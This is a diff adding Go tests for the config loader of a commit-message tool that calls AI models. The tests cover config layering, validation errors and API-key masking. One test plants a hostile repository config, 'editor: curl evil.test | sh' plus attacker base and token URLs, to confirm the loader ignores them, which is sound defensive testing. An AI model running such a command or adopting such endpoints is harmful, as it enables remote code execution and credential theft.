@@ -0,0 +1,250 @@
+package cmd
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/spf13/cobra"
+	"go.uber.org/zap"
+)
+
+func TestMain(m *testing.M) {
+	// Keep the developer configuration out of the tests.
+	os.Setenv("YAG_CONFIG", filepath.Join(os.TempDir(), "yag-test-missing", "config.yaml"))
+	os.Exit(m.Run())
+}
+
+// configFiles writes the user and repository configuration files.
+func configFiles(t *testing.T, repo *fakeRepo, user, project string) string {
+	t.Helper()
+	dir := t.TempDir()
+	name := filepath.Join(dir, "config.yaml")
+	t.Setenv("YAG_CONFIG", name)
+	if user != "" {
+		if err := os.WriteFile(name, []byte(user), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	repo.root = filepath.Join(dir, "repo")
+	if err := os.Mkdir(repo.root, 0755); err != nil {
+		t.Fatal(err)
+	}
+	if project != "" {
+		if err := os.WriteFile(filepath.Join(repo.root, repoConfigName), []byte(project), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return name
+}
+
+func Test_loadConfig_layers(t *testing.T) {
+	repo := newFakeRepo()
+	configFiles(t, repo,
+		"vertex:\n  project: user-project\n  location: us-east5\ntag:\n  remote: user-remote\n",
+		"vertex:\n  project: repo-project\ndiff:\n  exclude: [\"*.gen.go\"]\n",
+	)
+	t.Setenv("YAG_VERTEX_LOCATION", "env-location")
+
+	cmd := newClaudeCommitCommand(repo, &bytes.Buffer{}, genDeps{})
+	if err := cmd.ParseFlags([]string{"--vx-model", "flag-model"}); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := loadConfig(repo, cmd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for key, want := range map[string]string{
+		"vertex.project":  "repo-project",
+		"vertex.location": "env-location",
+		"vertex.model":    "flag-model",
+		"tag.remote":      "user-remote",
+		"ollama.model":    "llama3.2:3b",
+		"diff.exclude":    "*.gen.go",
+	} {
+		if v, _ := cfg.field(key); formatValue(v) != want {
+			t.Errorf("%s = %q, want %q (%s)", key, formatValue(v), want, cfg.source(key))
+		}
+	}
+	for flag, want := range map[string]string{"vx-project": "repo-project", "vx-location": "env-location", "vx-model": "flag-model"} {
+		if got := cmd.Flags().Lookup(flag).Value.String(); got != want {
+			t.Errorf("--%s = %q, want %q", flag, got, want)
+		}
+	}
+	if src := cfg.source("vertex.project"); !strings.HasSuffix(src, filepath.Join("repo", repoConfigName)+":2") {
+		t.Errorf("vertex.project source = %q", src)
+	}
+}
+
+func Test_loadConfig_hostileRepo(t *testing.T) {
+	repo := newFakeRepo()
+	configFiles(t, repo,
+		"issues:\n  cache: http://localhost:8080/issues\n",
+		"editor: curl evil.test | sh\n"+
+			"srcdir: /tmp/evil\n"+
+			"anthropic:\n  api_key: sk-evil\n  base_url: https://evil.test\n"+
+			"vertex:\n  credentials: adc\n  credentials_file: /tmp/evil.json\n  token_url: https://evil.test/token\n  project: repo-project\n"+
+			"issues:\n  cache: https://evil.test/issues\n",
+	)
+	restore := warn
+	defer func() { warn = restore }()
+	var warnings []string
+	warn = func(format string, args ...any) { warnings = append(warnings, fmt.Sprintf(format, args...)) }
+
+	cfg, err := loadConfig(repo, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for key, want := range map[string]string{
+		"editor":                  "",
+		"srcdir":                  defaultConfig().Srcdir,
+		"anthropic.api_key":       "",
+		"anthropic.base_url":      "",
+		"vertex.credentials":      "auto",
+		"vertex.credentials_file": "",
+		"vertex.token_url":        "",
+		"issues.cache":            "http://localhost:8080/issues",
+		"vertex.project":          "repo-project",
+	} {
+		if v, _ := cfg.field(key); formatValue(v) != want {
+			t.Errorf("%s = %q, want %q (%s)", key, formatValue(v), want, cfg.source(key))
+		}
+	}
+	if len(warnings) != 8 || !strings.Contains(warnings[0], repoConfigName+":1: editor ignored") {
+		t.Errorf("warnings = %q", warnings)
+	}
+
+	configFiles(t, repo, "", "issues:\n  cache: issues.yaml\n")
+	if cfg, err = loadConfig(repo, nil); err != nil || cfg.Issues.Cache != "issues.yaml" {
+		t.Errorf("issues.cache file = %q, %v", cfg.Issues.Cache, err)
+	}
+}
+
+func Test_loadConfig_errors(t *testing.T) {
+	tests := []struct {
+		name    string
+		user    string
+		env     string
+		wantErr string
+	}{
+		{"unknown key", "vertex:\n  projet: x\n", "", `config.yaml:2: unknown key "vertex.projet"`},
+		{"type", "diff:\n  budget: lots\n", "", `config.yaml:2: diff.budget: want an integer, got "lots"`},
+		{"mapping", "vertex: x\n", "", "config.yaml:1: vertex: want a mapping"},
+		{"negative", "lint:\n  body_width: -1\n", "", "config.yaml:2: lint.body_width: must not be negative"},
+		{"rule", "lint:\n  disable: [nope]\n", "", `config.yaml:2: lint.disable: unknown rule "nope"`},
+		{"credentials", "vertex:\n  credentials: vault\n", "", `config.yaml:2: vertex.credentials: unknown provider "vault"`},
+		{"duration", "http:\n  timeout: soon\n", "", `config.yaml:2: http.timeout: want a duration, got "soon"`},
+		{"template", "prompts:\n  commit: '{{.Diff'\n", "", "config.yaml:2: prompts.commit: template: commit:1: unclosed action"},
+		{"stage", "pipeline:\n  stages: [fences, spellcheck]\n", "", `config.yaml:2: pipeline.stages: unknown stage "spellcheck"`},
+		{"cleanup", "pipeline:\n  cleanup: ['s/a/b']\n", "", `config.yaml:2: pipeline.cleanup: cleanup rule "s/a/b": want 3 "/" delimiters, got 2`},
+		{"trailer", "pipeline:\n  trailers: [Reviewed]\n", "", `config.yaml:2: pipeline.trailers: trailer "Reviewed"`},
+		{"roster", "trailers:\n  roster: [ann]\n", "", `config.yaml:2: trailers.roster: co-author "ann", want "Name <email>"`},
+		{"branch pattern", "issues:\n  branch: ['(?P<ticket>']\n", "", "config.yaml:2: issues.branch: error parsing regexp"},
+		{"tag name", "tag:\n  name: '{{.Part1}} {{.Part2}}'\n", "", `config.yaml:2: tag.name: renders "cmd sub": ref name has ' '`},
+		{"base url", "anthropic:\n  base_url: localhost:8080\n", "", `config.yaml:2: anthropic.base_url: "localhost:8080", want an http or https url`},
+		{"env", "", "abc", `env YAG_DIFF_CHUNK: diff.chunk: want an integer, got "abc"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			repo := newFakeRepo()
+			configFiles(t, repo, tt.user, "")
+			if tt.env != "" {
+				t.Setenv("YAG_DIFF_CHUNK", tt.env)
+			}
+			_, err := loadConfig(repo, nil)
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("error = %v, want %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func Test_loadConfig_anthropic(t *testing.T) {
+	repo := newFakeRepo()
+	t.Setenv("ANTHROPIC_API_KEY", "sk-env")
+	t.Setenv("ANTHROPIC_BASE_URL", "http://env.test")
+	for _, tt := range []struct {
+		name, user, project string
+		wantKey, wantURL    string
+	}{
+		{"env", "", "", "sk-env", "http://env.test"},
+		{"config", "anthropic:\n  api_key: sk-config\n  base_url: http://config.test/\n", "", "sk-config", "http://config.test"},
+		{"not from the repository", "", "anthropic:\n  base_url: https://evil.test\n", "sk-env", "http://env.test"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			configFiles(t, repo, tt.user, tt.project)
+			cfg, err := loadConfig(repo, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			gen := genFlags{anthropic: cfg.Anthropic}
+			gen.register(&cobra.Command{}, "anthropic")
+			g, err := gen.generator(zap.NewNop())
+			if err != nil {
+				t.Fatal(err)
+			}
+			a := g.(anthropicGenerator)
+			if a.apiKey != tt.wantKey || a.baseURL != tt.wantURL {
+				t.Errorf("key, url = %q, %q, want %q, %q", a.apiKey, a.baseURL, tt.wantKey, tt.wantURL)
+			}
+		})
+	}
+}
+
+func Test_newConfigCommand(t *testing.T) {
+	repo := newFakeRepo()
+	name := configFiles(t, repo, "# mine\nvertex:\n  model: kept\nanthropic:\n  api_key: sk-secret\n", "")
+	run := func(args ...string) (string, error) {
+		var out bytes.Buffer
+		cmd := newConfigCommand(repo, &out)
+		cmd.SetArgs(args)
+		cmd.SetOut(&bytes.Buffer{})
+		cmd.SetErr(&bytes.Buffer{})
+		err := cmd.Execute()
+		return out.String(), err
+	}
+
+	if _, err := run("set", "vertex.project", "my-project"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := run("set", "--repo", "lint.forbid", "WIP, fixup"); err != nil {
+		t.Fatal(err)
+	}
+	b, _ := os.ReadFile(name)
+	if !strings.Contains(string(b), "# mine") || !strings.Contains(string(b), "model: kept") {
+		t.Errorf("user file not kept:\n%s", b)
+	}
+	if got, _ := run("get", "vertex.project"); got != "my-project\n" {
+		t.Errorf("get vertex.project = %q", got)
+	}
+	if got, _ := run("get", "lint.forbid"); got != "WIP,fixup\n" {
+		t.Errorf("get lint.forbid = %q", got)
+	}
+	got, err := run("list")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"vertex.project", "my-project", "config.yaml:", "YAG_VERTEX_PROJECT", "tag.remote", "github", "# default", "anthropic.api_key", "********"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("list does not contain %q:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "sk-secret") {
+		t.Errorf("list shows the api key:\n%s", got)
+	}
+	if got, _ := run("path"); got != "user: "+name+"\nrepo: "+filepath.Join(repo.root, repoConfigName)+"\n" {
+		t.Errorf("path = %q", got)
+	}
+	if _, err := run("set", "diff.budget", "lots"); err == nil {
+		t.Error("invalid value set")
+	}
+	if _, err := run("set", "--repo", "editor", "vi"); err == nil {
+		t.Error("editor set in the repository file")
+	}
+	if _, err := run("set", "nope", "x"); err == nil {
+		t.Error("unknown key set")
+	}
+}